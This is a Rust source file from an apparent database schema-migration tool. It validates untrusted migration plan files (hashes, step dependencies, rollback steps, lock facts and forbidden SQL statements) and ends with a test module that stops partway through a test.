//! Validation of plan files read from untrusted places: format, hashes, ids,
//! dependencies, SQL that psql could misread, and facts that must agree with each other.

use super::dto::*;
use super::{plan_hash, psql, ValidPlan, FORMAT};
use crate::plan::{HazardKind, LockMode, Phase, Severity, TimeoutClass, UndoKind};
use petgraph::algo::astar;
use petgraph::graph::{DiGraph, NodeIndex};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// Why a plan file was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlanFileError {
    /// What kind of problem.
    pub kind: ErrorKind,
    /// The step the problem is in, if it is in one.
    pub step: Option<String>,
    /// The problem in words, naming the field.
    pub message: String,
}

/// The kinds of [`PlanFileError`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorKind {
    /// Not JSON, or not shaped like a plan file.
    Syntax,
    /// `format` is missing or names another version.
    Format,
    /// `plan_hash` does not match the content: the file was edited after it was written.
    Modified,
    /// A field does not have the required shape (empty or duplicate ids, malformed hashes,
    /// control characters, empty SQL, a zero batch size, ...).
    Invalid,
    /// An unknown phase, step kind, lock mode, hazard kind or severity.
    UnknownName,
    /// A dependency on an unknown or later step, or a dependency cycle.
    Dependency,
    /// SQL that must not be run: psql meta-commands or variables, unterminated text,
    /// several statements where one is required, statements that change the transaction
    /// or session around the step, `;` or comments in backfill fragments.
    UnsafeSql,
    /// `waves`, `critical_path` or `tables` disagree with the steps.
    Inconsistent,
}

impl fmt::Display for PlanFileError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.step {
            Some(id) => write!(f, "step `{id}`: {}", self.message),
            None => f.write_str(&self.message),
        }
    }
}

impl std::error::Error for PlanFileError {}

/// Reads a plan file from untrusted text: parses the JSON, runs [`validate`] and types it.
/// Only a plan that comes back `Ok` can reach the executor. The text is read as a stream
/// ([`super::read`]) with the steps' texts kept in memory.
pub fn parse(text: &str) -> Result<ValidPlan, Vec<PlanFileError>> {
    super::read(text.as_bytes(), Box::new(super::MemorySpool::default()))
}

/// Like [`parse`], but returns the plan file itself (for renderers and tools that show a
/// plan without running it).
pub fn parse_file(text: &str) -> Result<PlanFile, Vec<PlanFileError>> {
    let syntax = |message: String| {
        vec![PlanFileError {
            kind: ErrorKind::Syntax,
            step: None,
            message,
        }]
    };
    let value: serde_json::Value = serde_json::from_str(text)
        .map_err(|e| syntax(format!("not a plan file: invalid JSON: {e}")))?;
    let Some(object) = value.as_object() else {
        return Err(syntax("not a plan file: expected a JSON object".into()));
    };
    match object.get("format") {
        None => return Err(vec![super::stream::no_format()]),
        Some(f) if f.as_str() != Some(FORMAT) => {
            return Err(vec![super::stream::wrong_format(&f.to_string())])
        }
        Some(_) => {}
    }
    let file: PlanFile = serde_json::from_value(value)
        .map_err(|e| syntax(format!("not a valid {FORMAT} plan file: {e}")))?;
    let errors = validate(&file);
    if errors.is_empty() {
        Ok(file)
    } else {
        Err(errors)
    }
}

/// Statements a step may not contain at its top level: they would end or change the
/// transaction the step runs in, change the session's settings (timeouts) for the steps
/// after it, or make psql read the rest of the script as data.
const FORBIDDEN_STATEMENTS: &[&str] = &[
    "abort",
    "begin",
    "commit",
    "copy",
    "discard",
    "end",
    "prepare",
    "release",
    "reset",
    "rollback",
    "savepoint",
    "set",
    "start",
];

/// The problems found so far.
#[derive(Default)]
pub(super) struct Checker {
    pub(super) errors: Vec<PlanFileError>,
}

/// What [`checks`] still has to do.
pub(super) enum Pass<'a> {
    /// Everything: the file is in memory, steps with their SQL.
    All,
    /// The file was read as a stream ([`super::read`]): every step already passed
    /// [`check_step`] as it was read (its texts are no longer in `file`), `from.sdl` and
    /// `to.sdl` passed [`check_side_sdl`], and `hash` is the `plan_hash` of the content as
    /// read.
    Streamed { hash: &'a str },
}

impl Checker {
    fn push(&mut self, kind: ErrorKind, step: Option<&str>, message: String) {
        self.errors.push(PlanFileError {
            kind,
            step: step.map(str::to_string),
            message,
        });
    }

    /// Refuses control characters in text shown to people (they could rewrite a
    /// terminal or end a comment in a rendered script).
    fn printable(&mut self, step: Option<&str>, field: &str, text: &str) {
        if let Some(c) = text.chars().find(|c| c.is_control()) {
            self.push(
                ErrorKind::Invalid,
                step,
                format!("{field} contains the control character {c:?}"),
            );
        }
    }

    fn sql(&mut self, id: &str, field: &str, text: &str, fragment: bool) -> Option<psql::Scan> {
        let result = if fragment {
            psql::scan_fragment(text).map(|()| psql::Scan::default())
        } else {
            psql::scan_script(text)
        };
        match result {
            Ok(scan) => Some(scan),
            Err(e) => {
                let (line, column) = line_col(text, e.offset);
                self.push(
                    ErrorKind::UnsafeSql,
                    Some(id),
                    format!("{field}, line {line}, column {column}: {}", e.message),
                );
                None
            }
        }
    }
}

fn line_col(text: &str, offset: usize) -> (usize, usize) {
    let before = &text[..offset.min(text.len())];
    let line = before.matches('\n').count() + 1;
    let column = before.rsplit('\n').next().unwrap_or("").chars().count() + 1;
    (line, column)
}

fn is_hash(s: &str) -> bool {
    s.strip_prefix("sha256:").is_some_and(|h| {
        h.len() == 64
            && h.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Checks a plan file read from an untrusted place. Returns every problem found (empty
/// when the file may be rendered and applied); see [`ErrorKind`] for what is checked.
pub fn validate(file: &PlanFile) -> Vec<PlanFileError> {
    checks(file, Pass::All, true)
}

/// [`validate`] for a plan file this process just built (`to_plan_file`, `with_sdl`) from
/// SDL texts it parsed itself: every check but parsing `from.sdl` and `to.sdl` again to
/// compare them with their schema hashes, which hold by construction (and cost as much as
/// planning itself on large schemas).
pub fn validate_own(file: &PlanFile) -> Vec<PlanFileError> {
    checks(file, Pass::All, false)
}

/// Every check of a plan file, in one place for both ways of reading one; see [`Pass`].
pub(super) fn checks(file: &PlanFile, pass: Pass<'_>, parse_sdl: bool) -> Vec<PlanFileError> {
    let mut cx = Checker::default();
    let per_step = matches!(pass, Pass::All);
    if file.format != FORMAT {
        cx.push(
            ErrorKind::Format,
            None,
            format!(
                "unsupported plan format \"{}\": this wesley reads \"{FORMAT}\"",
                file.format
            ),
        );
    }
    for (field, hash) in [
        ("from.schema_hash", &file.from.schema_hash),
        ("to.schema_hash", &file.to.schema_hash),
        ("plan_hash", &file.plan_hash),
    ] {
        if !is_hash(hash) {
            cx.push(
                ErrorKind::Invalid,
                None,
                format!("{field} is not of the form sha256:<64 lowercase hex digits>"),
            );
        }
    }
    for (field, r) in [("from", &file.from), ("to", &file.to)] {
        if let (Some(c), Some(hashes)) = (&r.canonical, &r.table_hashes) {
            for t in &c.tables {
                if hashes.get(&t.name) != Some(&t.hash()) {
                    cx.push(
                        ErrorKind::Invalid,
                        None,
                        format!(
                            "{field}.canonical table {} does not match {field}.table_hashes",
                            t.name
                        ),
                    );
                }
            }
        }
    }
    let computed = match pass {
        Pass::All => plan_hash(file),
        Pass::Streamed { hash } => hash.to_string(),
    };
    if is_hash(&file.plan_hash) && computed != file.plan_hash {
        cx.push(
            ErrorKind::Modified,
            None,
            "the plan was modified after it was written: plan_hash does not match its content; \
             run `wesley plan` again instead of editing the file"
                .into(),
        );
    }
    if file.planner_version.is_empty() {
        cx.push(ErrorKind::Invalid, None, "planner_version is empty".into());
    }
    cx.printable(None, "planner_version", &file.planner_version);
    check_steps(&mut cx, file, per_step);
    check_derived(&mut cx, file);
    check_expressions(&mut cx, file);
    if parse_sdl {
        check_sdl(&mut cx, file);
    }
    for d in &file.diagnostics {
        if !matches!(d.severity.as_str(), "error" | "warning") {
            cx.push(
                ErrorKind::UnknownName,
                None,
                format!(
                    "diagnostic {} has unknown severity \"{}\" (expected error or warning)",
                    d.code, d.severity
                ),
            );
        }
    }
    cx.errors
}

/// The checks every step gets, of `steps` and of `rollback` alike: printable texts, known
/// names, locks that agree with their modes, facts that agree with the step, safe SQL.
/// It needs nothing but the step, so a file read as a stream checks each step as it is
/// read.
pub(super) fn check_step(cx: &mut Checker, s: &PlanStep) {
    let id = s.id.as_str();
    cx.printable(Some(id), "id", id);
    cx.printable(Some(id), "summary", &s.summary);
    if let Some(t) = &s.table {
        cx.printable(Some(id), "table", t);
    }
    if s.phase().is_none() {
        cx.push(
            ErrorKind::UnknownName,
            Some(id),
            format!(
                "unknown phase \"{}\" (expected one of: {})",
                s.phase,
                names(Phase::ALL.iter().map(|p| p.as_str()))
            ),
        );
    }
    if s.kind().is_none() {
        cx.push(
            ErrorKind::UnknownName,
            Some(id),
            format!("unknown step kind \"{}\"", s.kind),
        );
    }
    for l in &s.locks {
        cx.printable(Some(id), "lock relation", &l.relation);
        match l.mode() {
            None => cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!(
                    "unknown lock mode \"{}\" (expected one of: {})",
                    l.mode,
                    names(LockMode::ALL.iter().map(|m| m.as_str()))
                ),
            ),
            Some(m)
                if m.blocks_reads() != l.blocks_reads || m.blocks_writes() != l.blocks_writes =>
            {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(id),
                    format!(
                        "lock on {} says blocks_reads={} blocks_writes={}, but {} blocks {}",
                        l.relation,
                        l.blocks_reads,
                        l.blocks_writes,
                        l.mode,
                        match (m.blocks_reads(), m.blocks_writes()) {
                            (true, _) => "reads and writes",
                            (false, true) => "writes only",
                            (false, false) => "neither reads nor writes",
                        }
                    ),
                )
            }
            Some(_) => {}
        }
    }
    for h in &s.hazards {
        cx.printable(Some(id), "hazard message", &h.message);
        if h.kind().is_none() {
            cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!(
                    "unknown hazard kind \"{}\" (expected one of: {})",
                    h.kind,
                    names(HazardKind::ALL.iter().map(|h| h.as_str()))
                ),
            );
        }
        if h.severity().is_none() {
            cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!(
                    "unknown hazard severity \"{}\" (expected one of: {})",
                    h.severity,
                    names(Severity::ALL.iter().map(|s| s.as_str()))
                ),
            );
        }
    }
    check_facts(cx, s);
    check_sql(cx, s);
}

/// Ids and dependencies of `steps`, then the rollback section; with `per_step`, also
/// [`check_step`] on every step.
fn check_steps(cx: &mut Checker, file: &PlanFile, per_step: bool) {
    let mut position: BTreeMap<&str, usize> = BTreeMap::new();
    for (i, s) in file.steps.iter().enumerate() {
        if s.id.trim().is_empty() {
            cx.push(
                ErrorKind::Invalid,
                None,
                format!("step {} has an empty id", i + 1),
            );
        } else if position.insert(&s.id, i).is_some() {
            cx.push(
                ErrorKind::Invalid,
                Some(&s.id),
                "the id is used by more than one step".into(),
            );
        }
    }
    // The depends_on graph, built the first time a step depends on a later one.
    let mut graph: Option<DependsOn> = None;
    for (i, s) in file.steps.iter().enumerate() {
        let id = s.id.as_str();
        if per_step {
            check_step(cx, s);
        }
        for d in &s.depends_on {
            match position.get(d.as_str()) {
                None => cx.push(
                    ErrorKind::Dependency,
                    Some(id),
                    format!("depends on `{d}`, which is not a step of this plan"),
                ),
                Some(&j) if j == i => cx.push(
                    ErrorKind::Dependency,
                    Some(id),
                    "depends on itself (a dependency cycle)".into(),
                ),
                Some(&j) if j > i => match graph
                    .get_or_insert_with(|| DependsOn::new(file, &position))
                    .cycle(file, j, i)
                {
                    Some(path) => cx.push(
                        ErrorKind::Dependency,
                        Some(id),
                        format!("dependency cycle: {}", path.join(" -> ")),
                    ),
                    None => cx.push(
                        ErrorKind::Dependency,
                        Some(id),
                        format!(
                            "depends on `{d}`, which comes later in the plan; steps must be listed in execution order"
                        ),
                    ),
                },
                Some(_) => {}
            }
        }
    }
    check_rollback(cx, file, &position, per_step);
}

/// The rollback section: every inverse step passes the checks of any step, has an id of
/// its own, undoes a step of `steps` whose `undo` is `steps`, and depends on nothing (they
/// run in the order listed). Every step of `steps` says what undoes it, and says `steps`
/// exactly when inverse steps name it.
fn check_rollback(
    cx: &mut Checker,
    file: &PlanFile,
    forward: &BTreeMap<&str, usize>,
    per_step: bool,
) {
    let mut ids: BTreeSet<&str> = BTreeSet::new();
    let mut undone: BTreeSet<&str> = BTreeSet::new();
    for s in &file.rollback {
        let id = s.id.as_str();
        if id.trim().is_empty() {
            cx.push(
                ErrorKind::Invalid,
                None,
                "a rollback step has an empty id".into(),
            );
            continue;
        }
        if forward.contains_key(id) || !ids.insert(id) {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "the id is used by more than one step".into(),
            );
        }
        if per_step {
            check_step(cx, s);
        }
        if s.undo.is_some() {
            cx.push(
                ErrorKind::Inconsistent,
                Some(id),
                "a rollback step has no `undo` of its own".into(),
            );
        }
        if !s.depends_on.is_empty() {
            cx.push(
                ErrorKind::Dependency,
                Some(id),
                "rollback steps run in the order listed and depend on nothing".into(),
            );
        }
        match s.undoes.as_deref() {
            None => cx.push(
                ErrorKind::Invalid,
                Some(id),
                "a rollback step must name the step it undoes (`undoes`)".into(),
            ),
            Some(u) if !forward.contains_key(u) => cx.push(
                ErrorKind::Dependency,
                Some(id),
                format!("undoes `{u}`, which is not a step of this plan"),
            ),
            Some(u) => {
                undone.insert(u);
            }
        }
    }
    for s in &file.steps {
        let id = s.id.as_str();
        if s.undoes.is_some() {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "only rollback steps undo a step (`undoes`)".into(),
            );
        }
        let Some(undo) = &s.undo else {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "the step does not say what undoes it (`undo`)".into(),
            );
            continue;
        };
        if let Some(n) = &undo.note {
            cx.printable(Some(id), "undo note", n);
        }
        match undo.kind() {
            None => cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!(
                    "unknown undo kind \"{}\" (expected one of: {})",
                    undo.kind,
                    names(UndoKind::ALL.iter().map(|k| k.as_str()))
                ),
            ),
            Some(k) if (k == UndoKind::Steps) != undone.contains(id) => cx.push(
                ErrorKind::Inconsistent,
                Some(id),
                format!(
                    "undo is `{k}`, but {} rollback step undoes it",
                    if undone.contains(id) { "a" } else { "no" }
                ),
            ),
            Some(k) if k != UndoKind::Refuses && s.phase() == Some(Phase::Contract) => cx.push(
                ErrorKind::Inconsistent,
                Some(id),
                "a contract step cannot be undone: its undo must be `refuses`".into(),
            ),
            Some(_) => {}
        }
    }
}

/// The plan's `depends_on` edges as a graph: node `i` is step `i`, and an edge `i -> j`
/// says step `i` depends on step `j` (names that are not steps are left out).
struct DependsOn(DiGraph<(), ()>);

impl DependsOn {
    fn new(file: &PlanFile, position: &BTreeMap<&str, usize>) -> DependsOn {
        let mut g = DiGraph::with_capacity(file.steps.len(), file.steps.len());
        let nodes: Vec<NodeIndex> = file.steps.iter().map(|_| g.add_node(())).collect();
        for (i, s) in file.steps.iter().enumerate() {
            for d in &s.depends_on {
                if let Some(&j) = position.get(d.as_str()) {
                    g.add_edge(nodes[i], nodes[j], ());
                }
            }
        }
        DependsOn(g)
    }

    /// The shortest dependency path from step `from` back to step `to` (which depends on
    /// `from`), as step ids in the direction of `depends_on` starting and ending at `to`;
    /// `None` when there is no cycle through the two.
    fn cycle(&self, file: &PlanFile, from: usize, to: usize) -> Option<Vec<String>> {
        let goal = NodeIndex::new(to);
        let (_, path) = astar(
            &self.0,
            NodeIndex::new(from),
            |n| n == goal,
            |_| 1u32,
            |_| 0,
        )?;
        let mut ids = vec![file.steps[to].id.clone()];
        ids.extend(path.iter().map(|n| file.steps[n.index()].id.clone()));
        Some(ids)
    }
}

/// The facts the executor reads from a step must agree with the step: its timeout class,
/// its cost, the index of a non-transactional step, the tables it touches.
fn check_facts(cx: &mut Checker, s: &PlanStep) {
    let id = s.id.as_str();
    match s.timeout() {
        None => cx.push(
            ErrorKind::UnknownName,
            Some(id),
            format!(
                "unknown timeout class \"{}\" (expected one of: {})",
                s.timeout,
                names(TimeoutClass::ALL.iter().map(|c| c.as_str()))
            ),
        ),
        Some(c) => {
            let expected =
                TimeoutClass::of(s.scan, s.rewrite, s.transactional, s.backfill.is_some());
            if c != expected {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(id),
                    format!(
                        "timeout is \"{}\", but a step that {} is \"{}\"",
                        c.as_str(),
                        match expected {
                            TimeoutClass::Unbounded => "backfills",
                            TimeoutClass::Long => "scans, rewrites or runs outside a transaction",
                            TimeoutClass::Instant => "changes the catalog only",
                        },
                        expected.as_str()
                    ),
                );
            }
        }
    }
    if s.cost == 0 {
        cx.push(ErrorKind::Invalid, Some(id), "cost is 0".into());
    }
    match (&s.index, s.transactional) {
        (None, false) => cx.push(
            ErrorKind::Invalid,
            Some(id),
            "a step that runs outside a transaction must name the index it builds or drops".into(),
        ),
        (Some(_), true) => cx.push(
            ErrorKind::Invalid,
            Some(id),
            "only a step that runs outside a transaction names an index".into(),
        ),
        (Some(i), false) => {
            for (field, text) in [("index.schema", &i.schema), ("index.name", &i.name)] {
                if text.is_empty() {
                    cx.push(ErrorKind::Invalid, Some(id), format!("{field} is empty"));
                }
                cx.printable(Some(id), field, text);
            }
        }
        (None, true) => {}
    }
    let mut expected: Vec<&str> = s.locks.iter().map(|l| l.relation.as_str()).collect();
    expected.extend(s.table.as_deref());
    expected.sort_unstable();
    expected.dedup();
    if s.touches
        .iter()
        .map(String::as_str)
        .ne(expected.iter().copied())
    {
        cx.push(
            ErrorKind::Inconsistent,
            Some(id),
            format!(
                "touches lists [{}], but the step's table and locks are [{}]",
                s.touches.join(", "),
                expected.join(", ")
            ),
        );
    }
}

/// `from.sdl` and `to.sdl`, when present, must be valid SDL describing exactly their
/// schema hash: the executor records the target's as the schema the database then has.
fn check_sdl(cx: &mut Checker, file: &PlanFile) {
    check_side_sdl(cx, "from", &file.from);
    check_side_sdl(cx, "to", &file.to);
}

/// [`check_sdl`] of one side (`from` or `to`). A file read as a stream checks each side
/// as soon as it is read, while little else is in memory (parsing a large schema's SDL
/// takes far more memory than the schema).
pub(super) fn check_side_sdl(cx: &mut Checker, side: &str, r: &SchemaRef) {
    let Some(text) = &r.sdl else { return };
    match crate::sdl::parse(&format!("{side}.sdl"), text).0 {
        None => cx.push(
            ErrorKind::Invalid,
            None,
            format!("{side}.sdl is not a valid schema"),
        ),
        Some(model) if crate::canon::schema_hash(&model) != r.schema_hash => cx.push(
            ErrorKind::Invalid,
            None,
            format!("{side}.sdl does not describe {side}.schema_hash"),
        ),
        Some(_) => {}
    }
}

/// [`check_side_sdl`] for a side read from a stream, with its canonical form and
/// expressions held as compact JSON while the SDL is parsed and lowered: that is the peak
/// of reading a large plan, and those two as structs take about two and a half times the
/// size of their JSON (measured with heaptrack on a 19,370-step plan: 38 MiB against
/// 14 MiB; the peak went from 161 to 138 MiB). Returns the side as it came.
pub(super) fn check_side_sdl_compactly(
    cx: &mut Checker,
    side: &str,
    mut r: SchemaRef,
) -> SchemaRef {
    if r.sdl.is_none() {
        return r;
    }
    // These plain structs always serialise and read back; should they ever not, the side
    // would lose what drift checks need, so that is said, not ignored.
    let bytes = serde_json::to_vec(&(r.canonical.take(), r.expressions.take())).unwrap_or_default();
    check_side_sdl(cx, side, &r);
    match serde_json::from_slice(&bytes) {
        Ok(back) => (r.canonical, r.expressions) = back,
        Err(e) => cx.push(
            ErrorKind::Invalid,
            None,
            format!("cannot keep {side}'s canonical form while its SDL is checked: {e}"),
        ),
    }
    r
}

/// Expressions are sent to the server to be normalised (drift checks): each must be a
/// fragment of one statement.
fn check_expressions(cx: &mut Checker, file: &PlanFile) {
    for (side, r) in [("from", &file.from), ("to", &file.to)] {
        for t in r.expressions.iter().flatten() {
            cx.printable(None, "expressions.table", &t.table);
            let named = t
                .defaults
                .iter()
                .chain(&t.generated)
                .chain(&t.checks)
                .chain(&t.index_predicates)
                .map(|e| (&e.name, Some(&e.text)));
            let policies = t
                .policies
                .iter()
                .flat_map(|p| [(&p.name, p.using.as_ref()), (&p.name, p.check.as_ref())]);
            for i in &t.index_keys {
                if crate::model::IndexMethod::parse(&i.method).is_none() {
                    cx.push(
                        ErrorKind::UnknownName,
                        None,
                        format!(
                            "{side}.expressions of {} ({}): unknown index method",
                            t.table, i.name
                        ),
                    );
                }
                if i.keys.is_empty() {
                    cx.push(
                        ErrorKind::Invalid,
                        None,
                        format!("{side}.expressions of {} ({}): no keys", t.table, i.name),
                    );
                }
            }
            let keys = t
                .index_keys
                .iter()
                .flat_map(|i| i.keys.iter().map(move |k| (&i.name, Some(k))));
            for (name, text) in named.chain(policies).chain(keys) {
                cx.printable(None, "expression name", name);
                let Some(text) = text else { continue };
                let field = format!("{side}.expressions of {} ({name})", t.table);
                if let Err(e) = psql::scan_fragment(text) {
                    let (line, column) = line_col(text, e.offset);
                    cx.push(
                        ErrorKind::UnsafeSql,
                        None,
                        format!("{field}, line {line}, column {column}: {}", e.message),
                    );
                }
            }
        }
    }
}

fn check_sql(cx: &mut Checker, s: &PlanStep) {
    let id = s.id.as_str();
    if s.sql.trim().is_empty() {
        cx.push(ErrorKind::Invalid, Some(id), "sql is empty".into());
    } else if let Some(scan) = cx.sql(id, "sql", &s.sql, false) {
        for word in &scan.statements {
            if FORBIDDEN_STATEMENTS.contains(&word.as_str()) {
                cx.push(
                    ErrorKind::UnsafeSql,
                    Some(id),
                    format!(
                        "sql contains a {} statement; steps may not control transactions, change session settings or copy data",
                        word.to_uppercase()
                    ),
                );
            }
        }
        if !scan.terminated {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "sql does not end its last statement with `;`".into(),
            );
        }
        if !s.transactional && scan.statements.len() > 1 {
            cx.push(
                ErrorKind::UnsafeSql,
                Some(id),
                format!(
                    "a step that runs outside a transaction must hold exactly one statement, not {}: a failure halfway would leave the others applied",
                    scan.statements.len()
                ),
            );
        }
    }
    if let Some(b) = &s.backfill {
        for (field, text) in [("backfill.schema", &b.schema), ("backfill.table", &b.table)] {
            if text.is_empty() {
                cx.push(ErrorKind::Invalid, Some(id), format!("{field} is empty"));
            }
            cx.printable(Some(id), field, text);
        }
        if b.key.is_empty() {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "backfill.key is empty: a backfill walks the table by its primary key".into(),
            );
        }
        for k in &b.key {
            if k.is_empty() {
                cx.push(
                    ErrorKind::Invalid,
                    Some(id),
                    "backfill.key has an empty column name".into(),
                );
            }
            cx.printable(Some(id), "backfill.key", k);
        }
        if b.batch_size == 0 {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "backfill.batch_size is 0".into(),
            );
        }
        for (field, text) in [
            ("backfill.set", &b.set),
            ("backfill.predicate", &b.predicate),
        ] {
            if text.trim().is_empty() {
                cx.push(ErrorKind::Invalid, Some(id), format!("{field} is empty"));
            } else {
                cx.sql(id, field, text, true);
            }
        }
    }
}

/// Checks that waves, critical path and per-table summaries agree with the steps.
fn check_derived(cx: &mut Checker, file: &PlanFile) {
    let steps: BTreeMap<&str, &PlanStep> = file.steps.iter().map(|s| (s.id.as_str(), s)).collect();
    let mut wave_of: BTreeMap<&str, usize> = BTreeMap::new();
    for (w, wave) in file.waves.iter().enumerate() {
        for id in wave {
            if !steps.contains_key(id.as_str()) {
                cx.push(
                    ErrorKind::Inconsistent,
                    None,
                    format!("waves name `{id}`, which is not a step of this plan"),
                );
            } else if wave_of.insert(id, w).is_some() {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(id),
                    "the step appears in more than one wave".into(),
                );
            }
        }
    }
    for s in &file.steps {
        let Some(&w) = wave_of.get(s.id.as_str()) else {
            cx.push(
                ErrorKind::Inconsistent,
                Some(&s.id),
                "the step is in no wave".into(),
            );
            continue;
        };
        for d in &s.depends_on {
            if wave_of.get(d.as_str()).is_some_and(|&dw| dw >= w) {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(&s.id),
                    format!(
                        "it is in wave {} but depends on `{d}` from the same or a later wave",
                        w + 1
                    ),
                );
            }
        }
    }
    for (k, id) in file.critical_path.iter().enumerate() {
        match steps.get(id.as_str()) {
            None => cx.push(
                ErrorKind::Inconsistent,
                None,
                format!("critical_path names `{id}`, which is not a step of this plan"),
            ),
            Some(s) => {
                if let Some(prev) = k.checked_sub(1).map(|p| &file.critical_path[p]) {
                    if !s.depends_on.contains(prev) {
                        cx.push(
                            ErrorKind::Inconsistent,
                            Some(id),
                            format!(
                                "critical_path puts it after `{prev}`, which it does not depend on"
                            ),
                        );
                    }
                }
            }
        }
    }
    let new_tables: BTreeSet<String> = file
        .tables
        .iter()
        .filter(|t| t.new_table)
        .map(|t| t.table.clone())
        .collect();
    let expected = super::summarize(&file.steps, &new_tables);
    if expected != file.tables {
        let listed: BTreeSet<&str> = file.tables.iter().map(|t| t.table.as_str()).collect();
        let derived: BTreeSet<&str> = expected.iter().map(|t| t.table.as_str()).collect();
        let mut wrong: Vec<String> = Vec::new();
        for t in derived.difference(&listed) {
            wrong.push(format!(
                "tables has no entry for {t}, which steps change or lock"
            ));
        }
        for t in listed.difference(&derived) {
            wrong.push(format!("tables lists {t}, which no step changes or locks"));
        }
        for (e, t) in expected.iter().zip(&file.tables) {
            if e != t && e.table == t.table {
                wrong.push(format!(
                    "tables entry for {} does not match its steps (it should be {})",
                    t.table,
                    serde_json::to_string(e).unwrap_or_default()
                ));
            }
        }
        if wrong.is_empty() {
            wrong.push("tables is not sorted by table, or lists a table twice".into());
        }
        for w in wrong {
            cx.push(ErrorKind::Inconsistent, None, w);
        }
    }
}

fn names<'a>(list: impl Iterator<Item = &'a str>) -> String {
    list.collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::planfile::{to_json, to_plan_file};
    use crate::{plan, sdl};

    fn schema(src: &str) -> crate::Schema {
        let (s, d) = sdl::parse("test.graphql", src);
        s.unwrap_or_else(|| panic!("{d:#?}"))
    }

    const OLD: &str = r#"
type User @wes_table {
  id: ID! @wes_pk
  name: String!
  legacy: String
}
"#;

    const NEW: &str = r#"
type User @wes_table {
  id: ID! @wes_pk
  name: String!
  nick: String @wes_index
  price: BigInt
}
"#;

    fn sample() -> PlanFile {
        to_plan_file(&plan::plan(&schema(OLD), &schema(NEW)))
    }

    fn kinds(file: &PlanFile) -> Vec<ErrorKind> {
        validate(file).into_iter().map(|e| e.kind).collect()
    }

    /// Applies `edit`, recomputes the hash (so only the content check can refuse it) and
    /// returns the errors. Reading the file as a stream finds the same ones.
    fn edited(edit: impl FnOnce(&mut PlanFile)) -> Vec<PlanFileError> {
        let mut f = sample();
        edit(&mut f);
        f.plan_hash = plan_hash(&f);
        let errors = validate(&f);
        let sorted = |mut e: Vec<PlanFileError>| {
            e.sort_by_key(|e| e.to_string());
            e
        };
        let streamed = parse(&to_json(&f)).err().unwrap_or_default();
        assert_eq!(sorted(streamed), sorted(errors.clone()), "streamed");
        errors
    }

    fn has(errors: Vec<PlanFileError>, kind: ErrorKind, needle: &str) {
        assert!(
            errors
                .iter()
                .any(|e| e.kind == kind && e.to_string().contains(needle)),
            "expected {kind:?} containing {needle:?}, got {errors:#?}"
        );
    }

    fn only(errors: Vec<PlanFileError>, kind: ErrorKind, needle: &str) {
        assert!(
            errors
                .iter()
                .any(|e| e.kind == kind && e.to_string().contains(needle)),
            "expected {kind:?} containing {needle:?}, got {errors:#?}"
        );
        assert!(errors.iter().all(|e| e.kind == kind), "{errors:#?}");
    }

    #[test]
    fn sample_is_valid_and_round_trips() {
        let f = sample();
        assert!(f.steps.len() >= 3, "{f:#?}");
        assert_eq!(validate(&f), vec![]);
        let text = to_json(&f);
        assert!(text.ends_with("}\n"));
        assert!(text.starts_with("{\n  \"format\": \"wesley.plan/v3\",\n  \"planner_version\""));
        let back = parse_file(&text).unwrap();
        assert_eq!(back, f);
        assert_eq!(to_json(&back), text);
    }

    #[test]
    fn same_inputs_same_bytes() {
        assert_eq!(to_json(&sample()), to_json(&sample()));
    }

    #[test]
    fn every_golden_plan_is_valid() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data");
        let mut dirs: Vec<_> = ["plan", "plan_err"]
            .iter()
            .flat_map(|k| std::fs::read_dir(root.join(k)).unwrap())
            .map(|e| e.unwrap().path())
            .filter(|p| p.is_dir())
            .collect();
        dirs.sort();
        assert!(!dirs.is_empty());
        for dir in dirs {
            let load = |n: &str| schema(&std::fs::read_to_string(dir.join(n)).unwrap_or_default());
            let f = to_plan_file(&plan::plan(&load("old.graphql"), &load("new.graphql")));
            assert_eq!(validate(&f), vec![], "{}", dir.display());
            assert_eq!(
                parse_file(&to_json(&f)).as_ref(),
                Ok(&f),
                "{}",
                dir.display()
            );
            let v = parse(&to_json(&f)).unwrap();
            assert_eq!(v.steps.len(), f.steps.len());
            assert_eq!(v.rollback.len(), f.rollback.len());
            for (vs, s) in v
                .steps
                .iter()
                .zip(&f.steps)
                .chain(v.rollback.iter().zip(&f.rollback))
            {
                assert_eq!(vs.id, s.id);
                let t = v.text(vs).unwrap();
                assert_eq!((t.summary, t.sql), (s.summary.clone(), s.sql.clone()));
            }
        }
    }

    #[test]
    fn streamed_sections_in_any_order_hash_the_same() {
        let f = sample();
        let value: serde_json::Value = serde_json::from_str(&to_json(&f)).unwrap();
        let mut reordered = serde_json::Map::new();
        for (k, v) in value.as_object().unwrap().iter().rev() {
            reordered.insert(k.clone(), v.clone());
        }
        let text = serde_json::to_string(&reordered).unwrap();
        assert!(text.starts_with("{\"diagnostics\""), "{text}");
        let v = parse(&text).unwrap();
        assert_eq!(v.plan_hash(), f.plan_hash);
        let tampered = text.replacen("ADD COLUMN", "ADD COLUMn", 1);
        let e = parse(&tampered).unwrap_err();
        assert_eq!(
            e.iter().map(|e| e.kind).collect::<Vec<_>>(),
            [ErrorKind::Modified]
        );
    }

    #[test]
    fn malformed_step_deep_in_a_plan_is_named() {
        let f = sample();
        let mut value: serde_json::Value = serde_json::from_str(&to_json(&f)).unwrap();
        value["steps"][2]["cost"] = "ten".into();
        let e = parse(&serde_json::to_string_pretty(&value).unwrap()).unwrap_err();
